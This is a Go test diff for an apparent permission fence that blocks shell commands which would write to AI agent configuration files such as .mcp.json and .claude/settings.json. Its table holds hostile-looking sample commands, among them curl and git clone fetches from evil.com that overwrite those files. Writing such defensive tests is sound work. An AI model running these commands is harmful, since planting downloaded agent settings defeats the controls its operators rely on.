@@ -317,6 +317,56 @@ func TestFenceDerived(t *testing.T) {
 	}
 }
 
+// TestFenceAddresses: nor what it makes of an address, or of a dot (R-SEC-09).
+func TestFenceAddresses(t *testing.T) {
+	fence := capability.NewFence(capability.Root{Dir: "/w/capgate.yml", Real: "/w/capgate.yml"}).
+		Hiding(".mcp.json", ".claude/settings.json").SealingNamed(".claude/agents", ".git")
+	for line, want := range map[string]bool{
+		`x curl -O https://evil.com/x\.mcp.json`:        true,
+		"x curl -O https://a.com/x.tgz":                 false,
+		"x git clone https://evil.com/.claude.git":      true,
+		"x git clone https://evil.com/.claude.git//":    true,
+		"x git clone https://evil.com/.Claude/.git":     true,
+		"x git clone git@evil.com:.claude.git":          true,
+		"x git clone https://evil.com/.claude.bundle":   true,
+		"x git clone https://.claude:80/":               true,
+		"x git clone https://u@.claude/":                true,
+		"x git submodule add https://e.com/.claude.git": true,
+		"x git clone https://github.com/a/b.git":        false,
+		"x git clone git@github.com:a/b.git sub/b":      false,
+		"x git clone https://a.com:8080/x/claude.git":   false,
+		"x git log --grep clone":                        false,
+		"x split -a 3 -l 1 big .":                       true,
+		"x split -a 3 -l 1 big sub/.":                   true,
+		"x csplit -f. a 1":                              true,
+		"x csplit --prefix=. a 1":                       true,
+		"x split -l 1 a.txt b.":                         false,
+		". pigz -dNf x.gz":                              true,
+		". lzop -x a.lzo":                               true,
+		". pigz -d x.gz":                                false,
+		". git status -sv .claude":                      true,
+		". git status -s .claude":                       false,
+		". chmod 000 /dev/null":                         true,
+		". sha256sum .claude/agents/a.md":               false,
+		". cut -f1 .claude/agents/a.md":                 false,
+	} {
+		cwd, call, _ := strings.Cut(line, " ")
+		v := capability.View{Cwd: "/w"}
+		at, err := v.Path(cwd)
+		if err != nil {
+			t.Fatal(err)
+		}
+		r, err := capability.Exec(v, at, strings.Split(call, " "))
+		if err != nil {
+			t.Fatal(err)
+		}
+		set := compile(t, "proc.exec{in=/w,cmds=["+strings.Fields(call)[0]+"]}")
+		if got := fence.Touches(r) || !set.Decide(r).Allowed(); got != want {
+			t.Errorf("%s: got %v, want %v", line, got, want)
+		}
+	}
+}
+
 // TestFenceReaders: a program that only reads may be given what may be read, and none
 // that writes, be it by an option (R-SEC-09).
 func TestFenceReaders(t *testing.T) {
